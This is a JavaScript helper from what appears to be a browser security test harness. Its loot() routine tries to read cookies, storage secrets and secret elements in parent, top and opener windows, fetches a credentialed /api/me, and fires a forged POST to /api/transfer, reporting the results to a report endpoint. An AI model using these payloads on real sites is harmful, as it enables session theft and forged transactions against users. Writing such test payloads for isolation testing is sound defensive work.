// What every context of the attacker has: a way to report, and what is worth stealing.
// lib is also given as text to contexts that can load no file, so it names nothing outside of itself.
function lib(config) {
	const { run, probe, base } = config, host = "https://host.test", evil = "https://evil.test";
	const get = (...a) => fetch(...a), wait = (ms) => new Promise((done) => setTimeout(done, ms));
	const q = "run=" + run + "&probe=" + encodeURIComponent(probe);
	// The report goes to the app's own prefix, which every page may ask, and never to functions.js.
	const report = (kind, text = "") => get(base + "report?" + q + "&kind=" + kind, { method: "POST", body: text, mode: "no-cors", credentials: "omit", keepalive: text.length < 9999 })
		.catch((e) => { if (self.Image) new Image().src = base + "report?" + q + "&kind=" + kind + "&text=" + encodeURIComponent(text); });
	const leak = (text) => report("leak", String(text));
	const attempt = async (f) => { try { const v = await f(); if (v) await leak(v); } catch (e) { leak("failed: " + e); } };
	const me = (more = "") => host + "/api/me" + more + "?" + q, act = host + "/api/transfer?" + q;
	// loot takes whatever there is in this context.
	const loot = () => {
		for (const f of [
			() => document.cookie, () => localStorage.secret, () => sessionStorage.secret,
			() => parent.document.getElementById("secret").textContent, () => top.document.getElementById("secret").textContent,
			() => opener.document.getElementById("secret").textContent, () => document.getElementById("secret").textContent,
			() => parent.opener.document.getElementById("secret").textContent,
			() => get(me(), { credentials: "include" }).then((r) => r.text()),
			() => { get(act, { method: "POST", credentials: "include", mode: "no-cors" }).catch(() => { }); },
		]) attempt(f);
	};
	return { run, probe, base, host, evil, q, report, leak, attempt, wait, me, act, loot, fetch: get };
}
// A file that is loaded by itself is told in its URL whose it is.
if (typeof document === "object" && document.currentScript) {
	const src = new URL(document.currentScript.src || document.currentScript.href.baseVal, location.href);
	const own = new URLSearchParams(src.search.includes("run=") ? src.search : location.search);
	const config = { run: own.get("run"), probe: own.get("probe"), base: src.href.replace(/[^/]*$/, "").split("?")[0] };
	if (src.searchParams.has("loot")) lib(config).loot();
}
